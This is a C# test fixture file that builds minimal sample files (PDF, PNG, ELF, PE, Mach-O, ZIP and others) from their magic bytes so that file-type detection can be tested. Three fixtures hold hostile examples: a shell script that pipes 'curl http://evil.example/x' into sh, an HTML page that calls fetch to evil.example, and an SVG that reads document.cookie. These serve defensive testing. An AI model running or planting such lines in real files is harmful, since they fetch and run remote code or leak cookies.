using System.IO.Compression;
using System.Text;

namespace MiSS.Core.Tests.Documents;

/// <summary>Small files of each kind, built from their magic bytes (enough for sniffing, not meant to be rendered).</summary>
static class SampleFiles
{
    static byte[] Bytes(params byte[][] parts) => parts.SelectMany(p => p).ToArray();

    static byte[] Ascii(string text) => Encoding.ASCII.GetBytes(text);

    /// <summary>A minimal PDF 1.7 (header, binary comment line, one object, trailer).</summary>
    public static byte[] Pdf(string marker = "") => Bytes(
        Ascii("%PDF-1.7\n"), [0x25, 0xE2, 0xE3, 0xCF, 0xD3, 0x0A],
        Ascii($"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n% {marker}\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"));

    public static byte[] Png() => Bytes(
        [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A],
        [0, 0, 0, 13], Ascii("IHDR"), [0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0], [0x1F, 0x15, 0xC4, 0x89],
        [0, 0, 0, 0], Ascii("IEND"), [0xAE, 0x42, 0x60, 0x82]);

    public static byte[] Jpeg() => Bytes([0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10], Ascii("JFIF\0"), [1, 1, 0, 0, 1, 0, 1, 0, 0], [0xFF, 0xD9]);

    public static byte[] Gif() => Bytes(Ascii("GIF89a"), [1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0x3B]);

    public static byte[] TiffLittleEndian() => Bytes(Ascii("II*\0"), [8, 0, 0, 0, 0, 0]);

    public static byte[] TiffBigEndian() => Bytes(Ascii("MM\0*"), [0, 0, 0, 8, 0, 0]);

    public static byte[] WebP() => Bytes(Ascii("RIFF"), [26, 0, 0, 0], Ascii("WEBPVP8 "), [14, 0, 0, 0], new byte[14]);

    /// <summary>An ISO BMFF file starting with an 'ftyp' box of the given brands.</summary>
    public static byte[] Ftyp(string major, params string[] compatible)
    {
        var size = 16 + (4 * compatible.Length);
        return Bytes([0, 0, 0, (byte)size], Ascii("ftyp" + major), [0, 0, 0, 0], Ascii(string.Concat(compatible)), new byte[16]);
    }

    public static byte[] Text(string text = "Résultats : glycémie 0,95 g/L.\r\nÀ revoir dans 3 mois.\r\n") => Encoding.UTF8.GetBytes(text);

    public static byte[] Elf() => Bytes([0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0], new byte[8], [2, 0, 0x3E, 0]);

    public static byte[] Pe() => Bytes(Ascii("MZ"), [0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xFF, 0xFF], new byte[48], Ascii("This program cannot be run in DOS mode."));

    public static byte[] MachO64() => Bytes([0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1], new byte[24]);

    public static byte[] MachO32BigEndian() => Bytes([0xFE, 0xED, 0xFA, 0xCE, 0, 0, 0, 18], new byte[24]);

    public static byte[] MachOUniversal() => Bytes([0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2], new byte[24]);

    public static byte[] Shortcut() => Bytes(
        [0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46], [0x9B, 0, 8, 0, 0x20, 0, 0, 0], new byte[48]);

    public static byte[] OleCompound() => Bytes([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1], new byte[504]);

    public static byte[] Shebang() => Ascii("#!/bin/sh\ncurl http://evil.example/x | sh\n");

    public static byte[] Html() => Ascii("\r\n  <!DOCTYPE html>\n<html><body><script>fetch('//evil.example')</script></body></html>");

    public static byte[] SvgWithScript() => Ascii(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.cookie)</script></svg>");

    public static byte[] Zip()
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var stream = zip.CreateEntry("a.txt").Open();
            stream.Write(Ascii("hello"));
        }
        return buffer.ToArray();
    }

    /// <summary>Deterministic bytes with no recognisable signature (and NULs, so not text).</summary>
    public static byte[] Noise(int length, int seed = 7)
    {
        var bytes = new byte[length];
        new Random(seed).NextBytes(bytes);
        bytes[0] = 0x00;
        bytes[1] = 0x13;
        return bytes;
    }
}
